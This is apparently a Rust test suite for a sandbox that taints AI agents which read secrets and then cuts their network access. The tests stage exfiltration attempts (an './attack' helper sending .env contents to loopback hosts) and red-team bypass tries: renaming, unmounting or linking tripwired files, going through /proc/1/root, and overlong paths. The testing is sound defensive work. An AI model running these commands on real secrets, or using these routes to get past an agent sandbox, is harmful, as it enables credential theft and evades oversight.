    let f = Fixture::new("iso-listener-dies").with_attack();
    let child = start_tripwired_agent(&f, ip);
    let pid = child.id();
    let started = f.ws.join("started").exists();
    let listener = tripwire_listener(pid);
    if let Some(l) = listener {
        // SAFETY: the listener, a child of our child, found just now.
        unsafe { libc::kill(l, libc::SIGKILL) };
    }
    let t = std::time::Instant::now();
    let o = wait_with_deadline(child, Duration::from_secs(60));
    let took = t.elapsed();
    // A sandbox that survived would see `go` and read the secret untainted.
    std::fs::write(f.ws.join("go"), "").unwrap();
    assert!(started, "the agent did not start\n{}", show(&o));
    assert!(listener.is_some(), "no tripwire listener process\n{}", show(&o));
    assert!(
        server.received().starts_with("PRE-TAINT-CHANNEL-OK"),
        "the channel did not work\n{}",
        show(&o)
    );
    assert!(
        stderr(&o).contains("killing the sandbox: the tripwire listener died"),
        "{}",
        show(&o)
    );
    assert!(
        !stdout(&o).contains("survived"),
        "the sandbox outlived its listener\n{}",
        show(&o)
    );
    assert!(
        took < Duration::from_secs(15),
        "the sandbox ran on for {took:?}\n{}",
        show(&o)
    );
    assert!(!server.received().contains("LEAK:"), "{}", show(&o));
    // The group is gone with the sandbox: an outside open does not wait.
    let t = std::time::Instant::now();
    assert!(std::fs::read_to_string(f.ws.join(".env")).is_ok());
    assert!(t.elapsed() < Duration::from_secs(5));
}

/// A policy that lets the agent see its secrets but never read them (and
/// write its workspace, where the attack program is).
const UNREADABLE_SECRETS: &str = r#"
use std::groups::*;
use std::paths::*;

policy unreadable_secrets {
    let workspace = path "$WORKSPACE/**";
    default deny(EACCES);
    always {
        allow memory, time, signals, process_basic, identity, process, io;
        allow read, visible, exec system_ro;
        allow read, visible proc_info;
        allow visible everything;
        allow read [root, dev_config];
        allow read, write, append devices;
        allow read, write, append, visible, exec workspace;
        allow visible secrets;
        deny read secrets;
        kill dangerous;
    }
    assert never read secrets;
}
"#;

/// A late mark whose read the policy refuses in the current state: the process
/// holding the file from before the mark is killed before it reads a byte of the
/// secret (the channel here is the agent's own stdout, which works: `held`).
#[test]
fn isolated_files_a_holder_the_policy_refuses_the_secret_is_killed_when_the_mark_lands() {
    if !kernel_opens() {
        eprintln!("not run: late marks are isolated files' (CLAWLESS_KERNEL_OPENS=1, isolated, root)");
        return;
    }
    let f = Fixture::new("iso-early-killed").with_attack();
    let pol = write_policy(&f, "unreadable", UNREADABLE_SECRETS);
    std::fs::write(f.ws.join("draft"), vec![0u8; 4096]).unwrap();
    let child = spawn_piped(f.command(
        &["--policy", &pol],
        &["./attack", "earlyhold", "fd", "draft", "127.77.16.65", "443"],
    ));
    let pid = child.id();
    let held = wait_for_file(&f.ws.join("held"), Duration::from_secs(60));
    if held {
        std::fs::rename(f.ws.join("draft"), f.ws.join(".env")).unwrap();
        wait_marked_by(pid, &f.ws.join(".env"), Duration::from_secs(30));
        std::thread::sleep(Duration::from_millis(300));
        write_in_place(&f.ws.join(".env"), b"SECRET-ENV-never-read-6161\n");
    }
    let o = go_and_wait(&f, child);
    let out = stdout(&o);
    assert!(
        // `held` is the agent's own marker (its stdout may not all get through:
        // it is killed).
        held && out.contains("earlyhold open: ok="),
        "the attack did not run\n{}",
        show(&o)
    );
    kernel_decided(&o);
    assert!(
        !out.contains("earlyhold read:"),
        "the holder read the secret\n{}",
        show(&o)
    );
    assert!(
        stderr(&o).contains("killed 1 sandbox process holding"),
        "{}",
        show(&o)
    );
}

// ---- isolated files: FUSE tripwires (CLAWLESS_TRIPWIRES=fuse) ----
// The tripwires without CAP_SYS_ADMIN (runtime/src/fusewire.rs): a FUSE file
// mounted over each secret in the sandbox's mount namespace, served by the
// monitor. Forced here as root (no user namespace), with kernel-decided opens.

/// The environment that forces FUSE tripwires, or `None` (and why, printed)
/// where this run cannot use them.
fn fuse_tripwires() -> Option<[(&'static str, &'static str); 2]> {
    // SAFETY: geteuid takes nothing and cannot fail.
    if mediated() || unsafe { libc::geteuid() } != 0 {
        eprintln!("not run: FUSE tripwires are isolated files' (isolated mode, forced as root)");
        return None;
    }
    Some([("CLAWLESS_KERNEL_OPENS", "1"), ("CLAWLESS_TRIPWIRES", "fuse")])
}

/// Runs `cmd` in the sandbox with FUSE tripwires and checks that the run used them.
fn fuse_run(f: &Fixture, extra: &[&str], cmd: &[&str], env: &[(&str, &str)]) -> std::process::Output {
    let mut c = f.command(extra, cmd);
    for (k, v) in env {
        c.env(k, v);
    }
    let o = run_with_deadline(c, Duration::from_secs(180));
    assert!(
        stderr(&o).contains("the kernel decides opens") && stderr(&o).contains("FUSE tripwire"),
        "the run did not use FUSE tripwires\n{}",
        show(&o)
    );
    o
}

/// Opening a FUSE-tripwired secret fires the transition before the open returns
/// (the agent has not read a byte: `hold` only opens and closes it): a socket
/// connected before, which carried a send, carries nothing after. And a read
/// and send of the content does not leave either.
#[test]
fn isolated_files_fuse_opening_a_tripwire_taints_before_the_first_byte() {
    let Some(env) = fuse_tripwires() else { return };
    let f = with_dotenv("fuse-hold");
    let ip = "127.77.23.1";
    let server = Tcp::new(ip, 443);
    let o = fuse_run(&f, &[], &["./attack", "hold", "tcp", ip, "443", ".env"], &env);
    assert_hold_tainted(&o, &server, "opening");
    let f = with_dotenv("fuse-leak");
    let o = leak_attempt(&f, "127.77.23.2", "plain", ".env", &env);
    assert!(stderr(&o).contains("FUSE tripwire"), "{}", show(&o));
}

/// A policy for the refusing tripwire: `.key` in the workspace is visible but
/// never readable (a tripwire that refuses), `.env` taints.
const FUSE_DENY_POLICY: &str = r#"
use std::groups::*;
use std::paths::*;
policy fusedeny {
    let workspace = path "$WORKSPACE/**";
    default deny(EPERM);
    always {
        allow memory, time, signals, process_basic, identity, process, io, ipc;
        allow read, visible, exec system_ro;
        allow read, visible proc_info;
        allow visible everything;
        allow read [root, dev_config];
        allow ioctl;
        allow read, write, append, visible devices;
        allow read, write, append, visible, exec workspace;
        deny read path "$WORKSPACE/.key";
    }
    state clean initial {
        allow net_sockets;
        allow connect, send [endpoint tcp "127.77.2.0/24" port 443, endpoint udp "127.77.2.0/24" port 53];
        on read path "$WORKSPACE/.env" -> tainted;
    }
    state tainted {
    }
}
"#;

/// A secret the policy does not let the agent read is refused at its FUSE
/// tripwire with the policy's errno (`EPERM`), nothing of it is served, and the
/// refusal changes no state (a send after it still arrives).
#[test]
fn isolated_files_fuse_a_secret_the_policy_denies_is_refused_with_its_errno() {
    let Some(env) = fuse_tripwires() else { return };
    let f = Fixture::new("fuse-deny").with_attack();
    std::fs::write(f.ws.join(".key"), "KEY-MATERIAL-91c2\n").unwrap();
    let file = write_policy(&f, "fusedeny", FUSE_DENY_POLICY);
    let ip = "127.77.2.91";
    let server = Tcp::new(ip, 443);
    let script = format!(
        "./attack tcp {ip} 443 PRE-; echo fuse-deny-ran; ./attack isoleak plain .key {ip} 443; ./attack tcp {ip} 443 AFTER"
    );
    let o = fuse_run(&f, &["--policy", &file], &["/bin/sh", "-c", &script], &env);
    let out = stdout(&o);
    assert!(out.contains("fuse-deny-ran"), "{}", show(&o));
    assert!(
        out.contains("isoleak open: errno=1"),
        "not refused with EPERM\n{}",
        show(&o)
    );
    let got = server.received();
    assert!(
        got.starts_with("PRE-"),
        "the channel did not work: {got:?}\n{}",
        show(&o)
    );
    assert!(!got.contains("KEY-MATERIAL"), "served: {got:?}\n{}", show(&o));
    assert!(
        got.contains("AFTER"),
        "the refusal changed the state: {got:?}\n{}",
        show(&o)
    );
}

/// A tripwire's mount point cannot be renamed or removed (`EBUSY`, as the kernel
/// says of a mount point; the monitor performs renames from its own namespace and
/// asks first), linked (`EXDEV`: another mount) or unmounted (the filter), and
/// it is not reached through `/proc/1/root` (our init is not dumpable). The
/// secret stays where it was, still served.
#[test]
fn isolated_files_fuse_a_tripwire_cannot_be_renamed_removed_linked_or_unmounted() {
    let Some(env) = fuse_tripwires() else { return };
    let f = with_dotenv("fuse-pin");
    let script = format!(
        "echo fuse-pin-ran; mv .env moved; echo mv=$?; rm -f .env; echo rm=$?; ln .env linked; echo ln=$?; \
         (umount .env) 2>/dev/null; echo umount=$?; umount -l .env 2>/dev/null; echo umount-l=$?; \
         cat /proc/1/root{}; echo proc=$?; cat .env",
        f.path(".env")
    );
    let o = fuse_run(&f, &[], &["/bin/sh", "-c", &script], &env);
    let (out, err) = (stdout(&o), stderr(&o));
    assert!(out.contains("fuse-pin-ran"), "{}", show(&o));
    for (what, msg) in [
        ("mv", "Device or resource busy"),
        ("rm", "Device or resource busy"),
        ("ln", "Invalid cross-device link"),
    ] {
        assert!(
            out.contains(&format!("{what}=1")),
            "{what} did not fail\n{}",
            show(&o)
        );
        assert!(err.contains(msg), "{what}: not {msg}\n{}", show(&o));
    }
    assert!(
        !out.contains("umount=0") && !out.contains("umount-l=0"),
        "unmounted\n{}",
        show(&o)
    );
    assert!(
        out.contains("proc=1") && err.contains("Permission denied"),
        "{}",
        show(&o)
    );
    assert!(
        out.contains("API_TOKEN=TOP-SECRET"),
        "no longer served\n{}",
        show(&o)
    );
    assert!(f.ws.join(".env").exists() && !f.ws.join("moved").exists() && !f.ws.join("linked").exists());
}

/// What a FUSE tripwire serves is the file: a small one and one of 3 MiB (many
/// reads, offsets past 2^20) hash the same inside and out; a write through it
/// (append, truncate) reaches the real file.
#[test]
fn isolated_files_fuse_serves_the_files_content() {
    let Some(env) = fuse_tripwires() else { return };
    let f = with_dotenv("fuse-content");
    let mut big = Vec::with_capacity(3 << 20);
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    while big.len() < (3 << 20) + 12345 {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        big.extend_from_slice(&x.to_le_bytes());
    }
    std::fs::write(f.ws.join(".env.large"), &big).unwrap();
    let hash = |p: &std::path::Path| {
        let o = std::process::Command::new("sha256sum").arg(p).output().unwrap();
        String::from_utf8_lossy(&o.stdout)
            .split_whitespace()
            .next()
            .unwrap()
            .to_string()
    };
    let (small, large) = (hash(&f.ws.join(".env")), hash(&f.ws.join(".env.large")));
    let o = fuse_run(
        &f,
        &[],
        &[
            "/bin/sh",
            "-c",
            "echo fuse-content-ran; sha256sum .env .env.large; wc -c < .env.large; \
             echo B=2 >> .env; cat .env; printf 'C=3\\n' > .env.large; wc -c < .env.large",
        ],
        &env,
    );
    let out = stdout(&o);
    assert!(out.contains("fuse-content-ran"), "{}", show(&o));
    assert!(out.contains(&format!("{small}  .env\n")), "{}", show(&o));
    assert!(out.contains(&format!("{large}  .env.large\n")), "{}", show(&o));
    assert!(out.contains(&format!("{}\n", big.len())), "{}", show(&o));
    assert!(out.contains("API_TOKEN=TOP-SECRET\nB=2\n"), "{}", show(&o));
    assert_eq!(
        std::fs::read_to_string(f.ws.join(".env")).unwrap(),
        "API_TOKEN=TOP-SECRET\nB=2\n"
    );
    assert_eq!(std::fs::read(f.ws.join(".env.large")).unwrap(), b"C=3\n");
}

/// Everyday tools work over FUSE tripwires: `cat`, `grep -r` (which reads the
/// tripwired `.env`), `find`, `ls -l` and `git status` in a repository that
/// tracks it (clean: same content, whatever its inode).
#[test]
fn isolated_files_fuse_tools_work_over_tripwires() {
    let Some(env) = fuse_tripwires() else { return };
    let f = with_dotenv("fuse-tools");
    let git = |args: &[&str]| {
        let o = std::process::Command::new("git")
            .args([
                "-c",
                "user.name=t",
                "-c",
                "user.email=t@t",
                "-c",
                "init.defaultBranch=main",
            ])
            .args(args)
            .current_dir(&f.ws)
            .output()
            .unwrap();
        assert!(
            o.status.success(),
            "git {args:?}: {}",
            String::from_utf8_lossy(&o.stderr)
        );
    };
    git(&["init", "-q"]);
    git(&["add", ".env", "ok.txt"]);
    git(&["commit", "-q", "-m", "one"]);
    let o = fuse_run(
        &f,
        &[],
        &[
            "/bin/sh",
            "-c",
            "echo fuse-tools-ran; cat ok.txt; grep -r --exclude-dir=.git TOKEN .; find . -name .env; \
             ls -l .env | cut -d' ' -f5; git status --porcelain; echo status=$?",
        ],
        &env,
    );
    let out = stdout(&o);
    assert!(out.contains("fuse-tools-ran"), "{}", show(&o));
    assert!(out.contains("ordinary workspace file"), "{}", show(&o));
    assert!(
        out.contains("./.env:API_TOKEN=TOP-SECRET"),
        "grep -r\n{}",
        show(&o)
    );
    assert!(out.contains("./.env\n"), "find\n{}", show(&o));
    assert!(out.contains("\n21\n"), "ls -l: the size\n{}", show(&o));
    assert!(
        out.ends_with("status=0\n") && !out.contains(" M "),
        "git status\n{}",
        show(&o)
    );
    assert_eq!(code(&o), 0, "{}", show(&o));
}

/// A name of a secret pattern that the agent creates gets its FUSE file before
/// the monitor answers the creation: opening it then taints. (A rename or link
/// into a secret's name is decided as reading that name: it taints by itself.)
#[test]
fn isolated_files_fuse_a_secret_the_agent_creates_is_a_tripwire() {
    let Some(env) = fuse_tripwires() else { return };
    for (i, script) in [
        "echo fuse-new-ran; echo A=1 > .env; ./attack hold tcp {ip} 443 .env",
        "echo fuse-new-ran; touch .env.local; ./attack hold tcp {ip} 443 .env.local",
    ]
    .iter()
    .enumerate()
    {
        let f = Fixture::new(&format!("fuse-new-{i}")).with_attack();
        let ip = format!("127.77.23.{}", 10 + i);
        let server = Tcp::new(&ip, 443);
        let script = script.replace("{ip}", &ip);
        let o = fuse_run(&f, &[], &["/bin/sh", "-c", &script], &env);
        let out = stdout(&o);
        assert!(out.contains("fuse-new-ran"), "{}", show(&o));
        assert_hold_tainted(&o, &server, "opening");
    }
    // Renamed into a secret's name (which taints by itself): covered before the
    // rename returns, too.
    let f = Fixture::new("fuse-new-mv").with_attack();
    let script = format!(
        "echo fuse-new-ran; echo B=2 > notes; mv notes .env.moved; grep -c ' {} ' /proc/self/mountinfo",
        f.path(".env.moved")
    );
    let o = fuse_run(&f, &[], &["/bin/sh", "-c", &script], &env);
    assert!(
        stdout(&o).contains("fuse-new-ran\n1\n"),
        "not mounted over\n{}",
        show(&o)
    );
    assert!(!stderr(&o).contains("not a FUSE tripwire"), "{}", show(&o));
}

/// A secret a process outside creates during the session gets its FUSE file
/// (the watcher records it, and the record mounts it): reading it taints.
#[test]
fn isolated_files_fuse_a_secret_created_outside_during_the_session_is_a_tripwire() {
    let Some(env) = fuse_tripwires() else { return };
    let f = Fixture::new("fuse-outside").with_attack();
    let (home, secret, ws) = (f.home.clone(), f.ws.join(".env"), f.ws.clone());
    let o = hold_taints_with(&f, &home, "127.77.23.20", ".env", &env, move || {
        let line = format!(" {} ", secret.display());
        let made = std::time::Instant::now();
        std::fs::write(&secret, "OUTSIDE-SECRET-5e1\n").unwrap();
        // The window: until a sandbox process (its working directory is the
        // workspace) sees the FUSE file in its mount table.
        let mut window = None;
        while window.is_none() && made.elapsed() < Duration::from_secs(10) {
            for e in std::fs::read_dir("/proc").unwrap().flatten() {
                let p = e.path();
                if std::fs::read_link(p.join("cwd")).ok().as_ref() != Some(&ws) {
                    continue;
                }
                if std::fs::read_to_string(p.join("mountinfo")).is_ok_and(|m| m.contains(&line)) {
                    window = Some(made.elapsed());
                    break;
                }
            }
            std::thread::sleep(Duration::from_millis(1));
        }
        eprintln!("FUSE tripwire mounted {window:?} after the file was created outside");
        assert!(
            window.is_some_and(|w| w < Duration::from_secs(1)),
            "no FUSE file over the new secret in time: {window:?}"
        );
    });
    assert!(
        stderr(&o).contains("the kernel decides opens") && stderr(&o).contains("FUSE tripwire"),
        "{}",
        show(&o)
    );
}

/// Whether `clawless` (pid `pid`) has a fanotify mark on the inode of `path`
/// itself (a symlink not followed, unlike [`marked_by`]).
fn marked(pid: u32, path: &std::path::Path) -> bool {
    use std::os::unix::fs::MetadataExt;
    std::fs::symlink_metadata(path).is_ok_and(|m| fanotify_marks(pid, m.ino()))
}

/// Waits (every 200 µs, up to `limit`) until [`marked`] holds: the watcher's
/// mark on a secret an outside process just made. Returns whether it does.
fn wait_marked(pid: u32, path: &std::path::Path, limit: Duration) -> bool {
    wait_until(limit, Duration::from_micros(200), || marked(pid, path))
}

/// The end of an `isoleak` run whose secret appeared during the session (after
/// [`Tcp::wait_pre_taint`]): the read happened (`read`, `isoleak read: N` with
/// the secret's length), nothing marked `LEAK:` reached `server`, the socket
/// after the read was refused (`socket: errno=`: tainted), and the kernel decided
/// opens where it should. `what` names the case in every failure message.
fn assert_isoleak_read_but_tainted(o: &std::process::Output, server: &Tcp, read: &str, what: &str) {
    let out = stdout(o);
    assert!(out.contains(read), "{what}: the read did not happen\n{}", show(o));
    assert!(
        !server.received().contains("LEAK:"),
        "{what}: the secret left\n{}",
        show(o)
    );
    assert!(out.contains("socket: errno="), "{what}: not tainted\n{}", show(o));
    kernel_decided(o);
}

/// Removes a directory tree on drop (the system roots' test directories).
struct Cleanup(Vec<std::path::PathBuf>);

impl Drop for Cleanup {
    fn drop(&mut self) {
        for p in &self.0 {
            let _ = std::fs::remove_dir_all(p);
        }
    }
}

/// unwatched-root-created-during-session (red team round 4): a secret an outside
/// process creates during the session under a system root no start-up walk
/// watched (`/opt`, `/etc`), and a directory holding a secret that an outside
/// process moves there from a place outside every discovery root, are tripwires
/// (the watcher's filesystem marks cover every file system of the roots): the
/// agent's read after they appear taints, and nothing read leaves.
#[test]
fn isolated_files_a_secret_created_outside_under_a_system_root_taints() {
    // SAFETY: getpid takes nothing and cannot fail.
    let me = unsafe { libc::getpid() };
    let cases = [
        (
            "create",
            std::path::PathBuf::from(format!("/opt/clawless-r4w-{me}")),
        ),
        (
            "create",
            std::path::PathBuf::from(format!("/etc/clawless-r4w-{me}")),
        ),
        (
            "move",
            std::path::PathBuf::from(format!("/opt/clawless-r4m-{me}")),
        ),
    ];
    for (i, (how, dir)) in cases.iter().enumerate() {
        let ip = format!("127.77.41.{}", 1 + i);
        let server = Tcp::new(&ip, 443);
        let f = Fixture::new(&format!("iso-sysroot-{how}-{i}")).with_attack();
        // Outside every discovery root, on the same file system as /opt.
        let from = std::path::PathBuf::from(format!("/var/lib/clawless-r4m-src-{me}"));
        let _clean = Cleanup(vec![dir.clone(), from.clone()]);
        std::fs::create_dir_all(dir).unwrap();
        let secret = if *how == "move" {
            std::fs::create_dir_all(from.join("app")).unwrap();
            std::fs::write(from.join("app/.env"), "LEAK:SECRET-moved-in-r4\n").unwrap();
            dir.join("app/.env")
        } else {
            dir.join(".env")
        };
        let script = format!(
            "./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; while [ ! -e go ]; do sleep 0.01; done; ./attack isoleak plain {} {ip} 443",
            secret.display()
        );
        let child = spawn_piped(f.command(&[], &["/bin/sh", "-c", &script]));
        let pid = child.id();
        server.wait_pre_taint(&format!("{how} {}", dir.display()));
        // The outside process: during the session, after discovery.
        if *how == "move" {
            std::fs::rename(from.join("app"), dir.join("app")).unwrap();
        } else {
            std::fs::write(&secret, "LEAK:SECRET-created-outside-r4\n").unwrap();
        }
        let made = std::time::Instant::now();
        if kernel_opens() {
            let marked = wait_marked(pid, &secret, Duration::from_secs(10));
            eprintln!(
                "{how} {}: marked {:?} after the outside change",
                secret.display(),
                made.elapsed()
            );
            assert!(
                marked,
                "{how} {}: the watcher did not mark the new secret",
                secret.display()
            );
        }
        let o = go_and_wait(&f, child);
        let out = stdout(&o);
        assert!(
            out.contains("isoleak read: ") && !out.contains("isoleak read: -1"),
            "{how} {}: the read did not happen\n{}",
            dir.display(),
            show(&o)
        );
        assert!(
            !server.received().contains("LEAK:"),
            "{how} {}: the secret left\n{}",
            dir.display(),
            show(&o)
        );
        assert!(
            out.contains("socket: errno=") || out.contains("isoleak connect: errno="),
            "{how} {}: not tainted\n{}",
            dir.display(),
            show(&o)
        );
        kernel_decided(&o);
    }
}

/// The line `CLAWLESS_TRACE_DISCOVERY=1` prints for the discovery root `root`
/// (empty without kernel-decided opens): "every stamp unchanged" when the cache's
/// fast path found the whole root as cached, "walked" otherwise.
fn discovery_of(o: &std::process::Output, root: &std::path::Path) -> String {
    let head = format!("clawless: discovery of {}: ", root.display());
    stderr(o)
        .lines()
        .find(|l| l.starts_with(&head))
        .unwrap_or_default()
        .to_string()
}

/// Makes the cache of the discovery root `root` one the next run trusts whole:
/// waits out the cache's distrust of fresh timestamps, runs twice, and checks
/// (kernel-decided opens) that the second run found every stamp unchanged (the
/// fast path, `discover.rs::check_stamps`), so that what the next run
/// finds is found past it.
fn warm_cache(f: &Fixture, root: &std::path::Path) {
    std::thread::sleep(Duration::from_millis(2100));
    let mut last = None;
    for _ in 0..2 {
        let mut c = f.command(&[], &["/bin/true"]);
        c.env("CLAWLESS_TRACE_DISCOVERY", "1");
        let o = run_with_deadline(c, Duration::from_secs(120));
        assert_eq!(code(&o), 0, "{}", show(&o));
        kernel_decided(&o);
        last = Some(o);
    }
    let o = last.unwrap();
    if kernel_opens() {
        assert!(
            discovery_of(&o, root).contains("every stamp unchanged"),
            "the warm run did not take the cache's fast path\n{}",
            show(&o)
        );
    }
}

/// A leak attempt on `path` (see `leak_attempt`) after a change made between
/// runs below the discovery root `root`, which must have sent its discovery past
/// the cache's fast path (kernel-decided opens).
fn leak_attempt_after_change(f: &Fixture, root: &std::path::Path, ip: &str, path: &str) {
    let o = leak_attempt(f, ip, "plain", path, &[("CLAWLESS_TRACE_DISCOVERY", "1")]);
    kernel_decided(&o);
    if kernel_opens() {
        assert!(
            discovery_of(&o, root).contains("walked"),
            "the change did not send the discovery past the cache's fast path\n{}",
            show(&o)
        );
    }
}

/// The discovery cache is invalidated by every change made between runs in a
/// cached tree (its stamps are trusted: the tree is older than the cache's
/// distrust of fresh timestamps when first cached, and the run before each
/// change found the whole tree as cached, by the fast path): a secret added deep
/// inside, a directory made with a secret in it, a directory holding a secret
/// moved in from outside every discovery root, and a file system mounted over a
/// cached directory are each a tripwire in the next run.
#[test]
fn isolated_files_the_cache_sees_secrets_added_between_runs() {
    let f = Fixture::new("iso-cache-between").with_attack();
    let deep = f.ws.join("deep/a/b/c");
    std::fs::create_dir_all(&deep).unwrap();
    // SAFETY: getpid takes nothing and cannot fail.
    let from = std::path::PathBuf::from(format!("/var/lib/clawless-cache-src-{}", unsafe {
        libc::getpid()
    }));
    let _clean = Cleanup(vec![from.clone()]);
    warm_cache(&f, &f.ws);
    // Added deep inside a cached directory.
    std::fs::write(deep.join(".env"), "LEAK:SECRET-added-between-runs\n").unwrap();
    leak_attempt_after_change(&f, &f.ws, "127.77.41.10", "deep/a/b/c/.env");
    // A directory made in a cached one, a secret in it.
    warm_cache(&f, &f.ws);
    std::fs::create_dir(f.ws.join("deep/a/made")).unwrap();
    std::fs::write(f.ws.join("deep/a/made/.env"), "LEAK:SECRET-made-between-runs\n").unwrap();
    leak_attempt_after_change(&f, &f.ws, "127.77.41.13", "deep/a/made/.env");
    // Moved in, with what it holds, from outside every root.
    std::fs::create_dir_all(from.join("app")).unwrap();
    std::fs::write(from.join("app/.env.local"), "LEAK:SECRET-moved-between-runs\n").unwrap();
    warm_cache(&f, &f.ws);
    std::fs::rename(from.join("app"), f.ws.join("deep/a/app")).unwrap();
    leak_attempt_after_change(&f, &f.ws, "127.77.41.11", "deep/a/app/.env.local");
    // A file system mounted over a cached directory.
    warm_cache(&f, &f.ws);
    let _m = Mounted::tmpfs(&f.ws.join("deep/a/b"));
    std::fs::write(f.ws.join("deep/a/b/.env"), "LEAK:SECRET-mounted-between-runs\n").unwrap();
    leak_attempt_after_change(&f, &f.ws, "127.77.41.12", "deep/a/b/.env");
}

/// cache-space-in-name: a cached directory whose name holds a space is stamped
/// under its whole path. The cache's reader once cut a `D` line's path at its
/// first space: such a directory below an unchanged parent was never looked at
/// again, and a secret created in it between runs was no tripwire (its read did
/// not taint). In the readable `~/.cache` (a discovery root), not the workspace,
/// whose secret names `crate::aliases` lists (and covers) at every start.
#[test]
fn isolated_files_a_cached_directory_named_with_a_space_is_not_skipped() {
    let f = Fixture::new("iso-cache-space").with_attack();
    let cache = f.home.join(".cache");
    std::fs::create_dir_all(cache.join("proj/my dir/in it")).unwrap();
    warm_cache(&f, &cache);
    let secret = cache.join("proj/my dir/in it/.env");
    std::fs::write(&secret, "LEAK:SECRET-in-a-spaced-dir\n").unwrap();
    leak_attempt_after_change(&f, &cache, "127.77.41.50", &secret.display().to_string());
}

/// A cached tree changed during a run: the secret an outside process creates in
/// a cached directory while a session runs is marked in that session, and the
/// next run (whose cache was written before the change) finds it too.
#[test]
fn isolated_files_a_cached_tree_changed_during_the_run_is_found() {
    let f = Fixture::new("iso-cache-during").with_attack();
    std::fs::create_dir_all(f.ws.join("deep/a/b")).unwrap();
    std::thread::sleep(Duration::from_millis(2100));
    let o = f.run(&[], &["/bin/true"]);
    assert_eq!(code(&o), 0, "{}", show(&o));
    kernel_decided(&o);
    let ip = "127.77.41.20";
    let server = Tcp::new(ip, 443);
    let script = format!(
        "./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; while [ ! -e go ]; do sleep 0.01; done; ./attack isoleak plain deep/a/b/.env {ip} 443"
    );
    let child = spawn_piped(f.command(&[], &["/bin/sh", "-c", &script]));
    let pid = child.id();
    server.wait_pre_taint("cached-tree-changed-during-run");
    let secret = f.ws.join("deep/a/b/.env");
    std::fs::write(&secret, "LEAK:SECRET-created-during-run\n").unwrap();
    if kernel_opens() {
        assert!(
            wait_marked(pid, &secret, Duration::from_secs(10)),
            "the watcher did not mark the new secret"
        );
    }
    let o = go_and_wait(&f, child);
    assert_isoleak_read_but_tainted(&o, &server, "isoleak read: 31", "cached-tree-changed-during-run");
    // The next run starts from the cache written before the creation.
    let o = leak_attempt(&f, "127.77.41.21", "plain", "deep/a/b/.env", &[]);
    kernel_decided(&o);
}

/// A file system an outside process mounts below a discovery root during the
/// session (propagated into the sandbox: the mount below is shared), with a
/// secret on it, is watched and walked: the agent's read of it taints.
#[test]
fn isolated_files_a_secret_on_a_mount_made_during_the_session_taints() {
    let f = Fixture::new("iso-mount-during").with_attack();
    let shared = f.ws.join("shared");
    let _outer = Mounted::tmpfs(&shared);
    {
        use std::os::unix::ffi::OsStrExt;
        let c = std::ffi::CString::new(shared.as_os_str().as_bytes()).unwrap();
        // SAFETY: valid C string; a propagation change of our own test mount.
        let r = unsafe {
            libc::mount(
                std::ptr::null(),
                c.as_ptr(),
                std::ptr::null(),
                libc::MS_SHARED,
                std::ptr::null(),
            )
        };
        assert_eq!(
            r,
            0,
            "making {} shared: {}",
            shared.display(),
            std::io::Error::last_os_error()
        );
    }
    let ip = "127.77.41.30";
    let server = Tcp::new(ip, 443);
    let script = format!(
        "./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; while [ ! -e go ]; do sleep 0.01; done; ./attack isoleak plain shared/vol/.env {ip} 443"
    );
    let child = spawn_piped(f.command(&[], &["/bin/sh", "-c", &script]));
    let pid = child.id();
    server.wait_pre_taint("mount-made-during-session");
    // Filled before it is mounted there, outside every root: no creation below a
    // root is seen, only the mount.
    let staging = std::path::PathBuf::from(format!("/var/lib/clawless-mount-{pid}"));
    let _clean = Cleanup(vec![staging.clone()]);
    std::fs::create_dir_all(&staging).unwrap();
    let _inner = Mounted::tmpfs(&staging);
    std::fs::write(staging.join(".env"), "LEAK:SECRET-on-a-new-mount\n").unwrap();
    std::fs::create_dir_all(shared.join("vol")).unwrap();
    {
        use std::os::unix::ffi::OsStrExt;
        let from = std::ffi::CString::new(staging.as_os_str().as_bytes()).unwrap();
        let to = std::ffi::CString::new(shared.join("vol").as_os_str().as_bytes()).unwrap();
        // SAFETY: valid C strings; a bind mount of our own test mount.
        let r = unsafe {
            libc::mount(
                from.as_ptr(),
                to.as_ptr(),
                std::ptr::null(),
                libc::MS_BIND,
                std::ptr::null(),
            )
        };
        assert_eq!(r, 0, "bind-mounting: {}", std::io::Error::last_os_error());
    }
    let _vol = Mounted(std::ffi::CString::new(shared.join("vol").as_os_str().as_encoded_bytes()).unwrap());
    let secret = shared.join("vol/.env");
    if kernel_opens() {
        let made = std::time::Instant::now();
        let marked = wait_marked(pid, &secret, Duration::from_secs(10));
        eprintln!(
            "the secret on the new mount was marked {:?} after the mount",
            made.elapsed()
        );
        assert!(marked, "the watcher did not mark the secret on the new mount");
    }
    let o = go_and_wait(&f, child);
    assert_isoleak_read_but_tainted(
        &o,
        &server,
        "isoleak read: 27",
        "mount-made-during-session (was the mount propagated?)",
    );
}

/// watcher-long-path (red team round 5): a secret an outside process creates
/// during the session in a directory whose path is longer than `PATH_MAX`, which
/// `readlink` of `/proc/self/fd/N` cannot name: the watcher names it by walking
/// up, marks it, and the agent's read (by relative opens the kernel decides)
/// taints; nothing read leaves. In every mode the read must taint.
#[test]
fn isolated_files_a_secret_created_outside_deeper_than_path_max_taints() {
    let ip = "127.77.41.40";
    let server = Tcp::new(ip, 443);
    let f = Fixture::new("iso-longpath").with_attack();
    let comp = "d".repeat(250);
    let depth = 18; // 18 × 251 bytes: past PATH_MAX (4,096)
    let cds = format!("for i in $(seq {depth}); do cd {comp} || exit 9; done");
    let made = std::process::Command::new("/bin/bash")
        .arg("-c")
        .arg(format!(
            "cd {} && for i in $(seq {depth}); do mkdir {comp} && cd {comp} || exit 9; done",
            f.ws.display()
        ))
        .status()
        .unwrap();
    assert!(made.success());
    let attack = f.path("attack");
    let script = format!(
        "./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; while [ ! -e written ]; do sleep 0.02; done; sleep 1; \
         {cds}; {attack} isoleak plain .env {ip} 443"
    );
    // bash: dash's `cd` refuses a path past PATH_MAX.
    let child = spawn_piped(f.command(&[], &["/bin/bash", "-c", &script]));
    let mut got = server.wait_pre_taint("watcher-long-path");
    // The outside process, during the session: the secret, deep down.
    let wrote = std::process::Command::new("/bin/bash")
        .arg("-c")
        .arg(format!(
            "cd {} && {cds} && echo LEAK:SECRET-deep-r5 > .env && touch {}",
            f.ws.display(),
            f.path("written")
        ))
        .status()
        .unwrap();
    assert!(wrote.success());
